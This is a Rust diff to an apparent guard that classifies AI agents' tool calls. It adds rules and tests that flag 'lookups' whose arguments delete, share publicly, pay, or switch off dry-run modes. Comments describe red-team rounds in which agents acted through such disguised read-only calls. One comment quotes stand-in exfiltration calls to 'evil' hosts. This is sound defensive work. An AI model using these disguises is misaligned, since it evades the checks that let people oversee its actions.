@@ -32,8 +32,67 @@ const ACTION_KEYS: &[&str] = &[
     "mode",
 ];
 
-/// Whether a value under an [`ACTION_KEYS`] key names an action: a writing verb, a verb of
-/// an action kind, or an HTTP method that changes something. One word, as such values are.
+/// Words of a key whose value is text to look for or to write, where a verb is a word like
+/// any other (`{"query": "delete"}` searches for it).
+const TEXT_KEYS: &[&str] = &[
+    "query",
+    "q",
+    "search",
+    "text",
+    "body",
+    "message",
+    "subject",
+    "title",
+    "content",
+    "name",
+    "keyword",
+    "keywords",
+    "term",
+    "terms",
+    "description",
+    "note",
+    "notes",
+    "comment",
+    "label",
+    "tag",
+    "tags",
+    "summary",
+    "prompt",
+    "pattern",
+    "contains",
+    "filter",
+];
+
+/// Words of a key that say what happens to the thing, or after: its value, a verb, is an
+/// action (`{"on_read": "delete"}`, `{"then": "trash"}`, `{"intent": "destroy"}`: a fifth
+/// outsider round ran these through lookups). Keys that name a thing (`folder`, `state`)
+/// hold nouns and states: `{"folder": "Archive"}`, `{"state": "closed"}`.
+const WHAT_HAPPENS_KEYS: &[&str] = &[
+    "then",
+    "after",
+    "afterwards",
+    "next",
+    "on",
+    "intent",
+    "intention",
+    "purpose",
+    "followup",
+    "finally",
+    "when",
+    "do",
+    "behavior",
+    "behaviour",
+    "policy",
+    "disposition",
+    "handling",
+    "effect",
+    "and",
+];
+
+/// Whether a value under `key` names an action: under an [`ACTION_KEYS`] key, a writing verb,
+/// a verb of an action kind, or an HTTP method that changes something; under a key that says
+/// what happens ([`WHAT_HAPPENS_KEYS`]) and holds no text ([`TEXT_KEYS`]), a verb of an
+/// action kind alone, in its plain form. One word, as such values are.
 fn names_an_action(key: &str, value: &str) -> bool {
     let value = value.trim();
     if value.is_empty() || value.len() > 40 || value.contains(char::is_whitespace) {
@@ -41,7 +100,11 @@ fn names_an_action(key: &str, value: &str) -> bool {
     }
     let key_words = super::classify::words(key);
     if !key_words.iter().any(|w| ACTION_KEYS.contains(&w.as_str())) {
-        return false;
+        return key_words
+            .iter()
+            .any(|w| WHAT_HAPPENS_KEYS.contains(&w.as_str()))
+            && !key_words.iter().any(|w| TEXT_KEYS.contains(&w.as_str()))
+            && lone_action_verb(value).is_some();
     }
     let words = super::classify::words(value);
     matches!(
@@ -51,6 +114,117 @@ fn names_an_action(key: &str, value: &str) -> bool {
         .iter()
         .any(|w| super::classify::WRITE_VERBS.contains(&w.as_str()))
         || super::kinds::names_an_action(&words)
+}
+
+/// The action kinds a one-word value names by itself (`delete`, `trash`, `publish`): a value
+/// of a single word, which is a verb of an action kind.
+fn lone_action_verb(value: &str) -> Option<Vec<super::authority::ActionKind>> {
+    let words = super::classify::words(value);
+    if words.len() != 1 {
+        return None;
+    }
+    // The plain form only: `closed`, `archived` are states.
+    let kinds: Vec<_> = super::authority::ActionKind::ALL
+        .into_iter()
+        .filter(|k| k.tool_verbs().contains(&words[0].as_str()))
+        .collect();
+    (!kinds.is_empty()).then_some(kinds)
+}
+
+/// Words of a key that keep a call from acting while they are on: a dry run, a preview, a
+/// quote, a peek. Turned off (`{"dry_run": false}`, `{"quote_only": false}`, `{"peek":
+/// false}`), the call does what its name only looks at (a fifth outsider round applied a
+/// migration through `check_migration` and made a transfer through `get_transfer_quote`).
+const SAFE_MODES: &[&str] = &[
+    "dry",
+    "dryrun",
+    "preview",
+    "simulate",
+    "simulation",
+    "only",
+    "peek",
+    "readonly",
+    "sandbox",
+    "noop",
+    "whatif",
+    "draft",
+    "test",
+    "validate",
+    "plan",
+];
+
+/// Whether an argument turns off what keeps the call from acting ([`SAFE_MODES`]).
+pub(crate) fn leaves_safe_mode(args: &Value) -> bool {
+    let Value::Object(map) = args else {
+        return false;
+    };
+    map.iter().any(|(key, value)| {
+        let off = match value {
+            Value::Bool(b) => !b,
+            Value::Number(n) => n.as_f64() == Some(0.0),
+            Value::String(s) => matches!(
+                s.trim().to_ascii_lowercase().as_str(),
+                "false" | "no" | "off" | "0"
+            ),
+            _ => false,
+        };
+        off && {
+            let words = super::classify::words(key);
+            words.iter().any(|w| SAFE_MODES.contains(&w.as_str())) || words.concat() == "readonly"
+        }
+    })
+}
+
+/// Words of a key that say who may see a thing, and values that open it to everyone.
+const AUDIENCE_KEYS: &[&str] = &[
+    "visibility",
+    "visible",
+    "access",
+    "privacy",
+    "audience",
+    "sharing",
+    "scope",
+    "acl",
+    "permission",
+    "permissions",
+    "exposure",
+];
+const EVERYONE: &[&str] = &[
+    "public",
+    "everyone",
+    "anyone",
+    "all",
+    "world",
+    "internet",
+    "open",
+    "anonymous",
+    "unlisted",
+];
+
+/// Whether an argument opens a thing to everyone: `{"visibility": "public"}`, `{"private":
+/// false}`, `{"public": true}` — a share, whatever the tool is called (a lookup given one
+/// made a repository public for a third and a fifth outsider round).
+pub(crate) fn opens_to_everyone(args: &Value) -> bool {
+    let Value::Object(map) = args else {
+        return false;
+    };
+    map.iter().any(|(key, value)| {
+        let words = super::classify::words(key);
+        let has = |list: &[&str]| words.iter().any(|w| list.contains(&w.as_str()));
+        match value {
+            Value::Bool(b) => {
+                (*b && has(&["public", "shared", "published", "world", "anonymous"]))
+                    || (!*b && has(&["private", "hidden", "internal", "restricted", "secret"]))
+            }
+            Value::String(v) => {
+                has(AUDIENCE_KEYS)
+                    && super::classify::words(v)
+                        .iter()
+                        .any(|w| EVERYONE.contains(&w.as_str()))
+            }
+            _ => false,
+        }
+    })
 }
 
 /// Whether a key's own words ask for an action with a value that turns it on
@@ -79,7 +253,24 @@ fn key_acts(key: &str, value: &Value) -> bool {
     // `start_date`, `order_by` or `type`).
     let always = |w: &str| {
         (super::classify::WRITE_VERBS.contains(&w) && !super::classify::NOUNS_TOO.contains(&w))
-            || matches!(w, "deliver" | "notify" | "modify" | "unlock" | "disarm")
+            || matches!(
+                w,
+                "deliver"
+                    | "notify"
+                    | "modify"
+                    | "unlock"
+                    | "disarm"
+                    // Taking a message off a queue for good.
+                    | "ack"
+                    | "acknowledge"
+                    | "consume"
+                    | "dequeue"
+                    | "expunge"
+                    | "purge"
+                    | "destroy"
+                    | "wipe"
+                    | "erase"
+            )
     };
     let leads = words.len() >= 2
         && matches!(
@@ -128,7 +319,7 @@ static CODE_THAT_ACTS: std::sync::LazyLock<Option<regex::Regex>> = std::sync::La
 /// interpreter. (Reaching the network is not a change of anything: a lookup with a link only
 /// carries data out, which provenance judges by its values.)
 pub fn changes_by_arguments(args: &Value) -> bool {
-    acts("", args, false)
+    acts("", args, false) || leaves_safe_mode(args) || opens_to_everyone(args)
 }
 
 /// Top-level domains that host most of the web's names and are no file's extension: under
@@ -271,7 +462,11 @@ fn acts(key: &str, v: &Value, reach: bool) -> bool {
 /// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
 /// `lookup_domain {"domain": "<code>.evil.net"}`).
 pub fn call_effect(tool: Effect, args: &Value) -> Effect {
-    if tool == Effect::SideEffecting || acts("", args, true) {
+    if tool == Effect::SideEffecting
+        || acts("", args, true)
+        || leaves_safe_mode(args)
+        || opens_to_everyone(args)
+    {
         return Effect::SideEffecting;
     }
     Effect::ReadOnly
@@ -286,6 +481,18 @@ pub fn argument_kinds(tool: &str, args: &Value) -> Vec<super::authority::ActionK
     let mut kinds = Vec::new();
     if let Value::Object(map) = args {
         for (key, value) in map {
+            // A key that is an action, turned on: `{"expunge": true}` (not a safe mode:
+            // `{"dry_run": true}`).
+            let words = super::classify::words(key);
+            if value.as_bool() == Some(true)
+                && !words.iter().any(|w| SAFE_MODES.contains(&w.as_str()))
+            {
+                kinds.extend(
+                    ActionKind::ALL
+                        .into_iter()
+                        .filter(|k| super::kinds::has_verb(&words, k.tool_verbs())),
+                );
+            }
             let Some(value) = value.as_str() else {
                 continue;
             };
@@ -293,6 +500,9 @@ pub fn argument_kinds(tool: &str, args: &Value) -> Vec<super::authority::ActionK
                 .iter()
                 .any(|w| ACTION_KEYS.contains(&w.as_str()))
             {
+                if names_an_action(key, value) {
+                    kinds.extend(lone_action_verb(value).unwrap_or_default());
+                }
                 continue;
             }
             let words = super::classify::words(value);
@@ -305,6 +515,23 @@ pub fn argument_kinds(tool: &str, args: &Value) -> Vec<super::authority::ActionK
     }
     if weakens_a_safeguard(tool, args) {
         kinds.push(ActionKind::Access);
+    }
+    if opens_to_everyone(args) {
+        kinds.push(ActionKind::Share);
+    }
+    if leaves_safe_mode(args) {
+        // Out of its safe mode a lookup does what its name names (`get_transfer_quote`
+        // transfers), and a check runs for real (`check_migration {"dry_run": false}`
+        // migrates): it needs a user who asked for that, not for a check.
+        let words = super::classify::words(tool);
+        let named: Vec<ActionKind> = ActionKind::ALL
+            .into_iter()
+            .filter(|k| super::kinds::has_verb(&words, k.tool_verbs()))
+            .collect();
+        if named.is_empty() {
+            kinds.push(ActionKind::Run);
+        }
+        kinds.extend(named);
     }
     kinds.sort();
     kinds.dedup();
@@ -405,6 +632,64 @@ pub fn weakens_a_safeguard(tool: &str, args: &Value) -> bool {
 #[cfg(test)]
 mod tests {
     use serde_json::json;
+
+    /// A fifth outsider round ran lookups whose arguments act: a verb under a key that says
+    /// what happens, an action key turned on, a safe mode turned off, a thing opened to all.
+    #[test]
+    fn what_a_lookups_arguments_do_is_read() {
+        use super::super::authority::ActionKind::*;
+        use super::{argument_kinds, call_effect, changes_by_arguments};
+        use crate::classify::Effect;
+        for (args, kinds) in [
+            (json!({"email_id": "12", "on_read": "delete"}), vec![Delete]),
+            (json!({"query": "payroll", "then": "trash"}), vec![Delete]),
+            (
+                json!({"repo": "acme/web", "intent": "destroy"}),
+                vec![Delete],
+            ),
+            (json!({"email_id": "12", "expunge": true}), vec![Delete]),
+            (json!({"repo": "acme/web", "private": false}), vec![Share]),
+            (
+                json!({"repo": "acme/web", "visibility": "public"}),
+                vec![Share],
+            ),
+            (
+                json!({"name": "0042_add_index", "dry_run": false}),
+                vec![Run],
+            ),
+        ] {
+            assert_eq!(argument_kinds("lookup", &args), kinds, "{args}");
+            assert_eq!(
+                call_effect(Effect::ReadOnly, &args),
+                Effect::SideEffecting,
+                "{args}"
+            );
+            assert!(changes_by_arguments(&args), "{args}");
+        }
+        assert_eq!(
+            argument_kinds(
+                "get_transfer_quote",
+                &json!({"amount": 5, "quote_only": false})
+            ),
+            vec![Pay]
+        );
+        // Nouns and states under keys that name things, and text, stay lookups.
+        for args in [
+            json!({"repo": "acme/web", "state": "closed"}),
+            json!({"folder": "Trash"}),
+            json!({"destination_folder": "Archive"}),
+            json!({"query": "delete"}),
+            json!({"name": "x", "dry_run": true}),
+            json!({"repo": "acme/web", "private": true}),
+        ] {
+            assert!(argument_kinds("lookup", &args).is_empty(), "{args}");
+            assert_eq!(
+                call_effect(Effect::ReadOnly, &args),
+                Effect::ReadOnly,
+                "{args}"
+            );
+        }
+    }
 
     /// A third outsider round: the steps that hide a theft turn a safeguard off.
     #[test]
